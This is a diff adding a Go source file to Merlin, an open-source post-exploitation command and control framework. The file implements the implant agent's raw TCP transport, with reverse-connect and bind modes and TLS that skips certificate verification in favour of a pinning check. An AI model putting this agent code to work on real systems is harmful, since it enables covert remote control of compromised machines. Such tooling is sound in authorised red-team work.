@@ -0,0 +1,145 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"crypto/tls"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"strconv"
+	"sync"
+	"time"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/framing"
+	"github.com/Ne0nd0g/merlin/pkg/util"
+)
+
+// tcpTransport is a http.RoundTripper that sends the agent's messages to a Merlin TCP listener over a single raw TCP
+// connection. The request URL is tcp://<host>:<port> to connect to a reverse listener or tcp://<interface>:<port>?bind=true
+// to listen for the server's bind listener to connect; tls=true wraps the connection in TLS.
+type tcpTransport struct {
+	sync.Mutex
+	conn     net.Conn
+	listener net.Listener
+	url      string // The callback URL the connection or listener belongs to
+}
+
+// RoundTrip writes the request as a frame on the connection and reads the server's response frame
+func (t *tcpTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	t.Lock()
+	defer t.Unlock()
+
+	var body []byte
+	var err error
+	if req.Body != nil {
+		body, err = ioutil.ReadAll(req.Body)
+		_ = req.Body.Close()
+		if err != nil {
+			return nil, fmt.Errorf("there was an error reading the message body:\r\n%s", err.Error())
+		}
+	}
+	// The agent rotated to another callback URL
+	if t.url != req.URL.String() {
+		t.close()
+		if t.listener != nil {
+			_ = t.listener.Close()
+			t.listener = nil
+		}
+		t.url = req.URL.String()
+	}
+	if t.conn == nil {
+		if t.conn, err = t.connect(req); err != nil {
+			return nil, err
+		}
+	}
+
+	// Drop the connection on any error so the next message starts with a new one
+	if err = framing.Write(t.conn, framing.PackRequest(req.Header.Get("Authorization"), body)); err != nil {
+		t.close()
+		return nil, fmt.Errorf("there was an error writing the message to the TCP connection:\r\n%s", err.Error())
+	}
+	data, err := framing.Read(t.conn)
+	if err != nil {
+		t.close()
+		return nil, fmt.Errorf("there was an error reading the response from the TCP connection:\r\n%s", err.Error())
+	}
+	status, response, err := framing.UnpackResponse(data)
+	if err != nil {
+		t.close()
+		return nil, err
+	}
+
+	return &http.Response{
+		Status:        strconv.Itoa(status) + " " + http.StatusText(status),
+		StatusCode:    status,
+		Proto:         "TCP",
+		Header:        http.Header{"Content-Type": []string{"application/octet-stream"}},
+		Body:          ioutil.NopCloser(bytes.NewReader(response)),
+		ContentLength: int64(len(response)),
+		Request:       req,
+	}, nil
+}
+
+// connect dials the reverse listener or waits for the bind listener to connect to the agent
+func (t *tcpTransport) connect(req *http.Request) (net.Conn, error) {
+	useTLS := req.URL.Query().Get("tls") == "true"
+	tlsConfig := &tls.Config{
+		MinVersion:            tls.VersionTLS12,
+		InsecureSkipVerify:    true, // #nosec G402 - see https://github.com/Ne0nd0g/merlin/issues/59 TODO fix this
+		VerifyPeerCertificate: pinned.verify,
+	}
+
+	if req.URL.Query().Get("bind") != "true" {
+		d := &net.Dialer{Timeout: 30 * time.Second}
+		if useTLS {
+			return tls.DialWithDialer(d, "tcp", req.URL.Host, tlsConfig)
+		}
+		return d.Dial("tcp", req.URL.Host)
+	}
+
+	if t.listener == nil {
+		var err error
+		if useTLS {
+			cer, errCert := util.GenerateTLSCert(nil, nil, nil, nil, nil, nil, true)
+			if errCert != nil {
+				return nil, fmt.Errorf("there was an error generating the TLS certificate:\r\n%s", errCert.Error())
+			}
+			tlsConfig.Certificates = []tls.Certificate{*cer}
+			t.listener, err = tls.Listen("tcp", req.URL.Host, tlsConfig)
+		} else {
+			t.listener, err = net.Listen("tcp", req.URL.Host)
+		}
+		if err != nil {
+			return nil, fmt.Errorf("there was an error listening on %s:\r\n%s", req.URL.Host, err.Error())
+		}
+	}
+	return t.listener.Accept()
+}
+
+// close closes and forgets the current connection
+func (t *tcpTransport) close() {
+	if t.conn != nil {
+		_ = t.conn.Close()
+		t.conn = nil
+	}
+}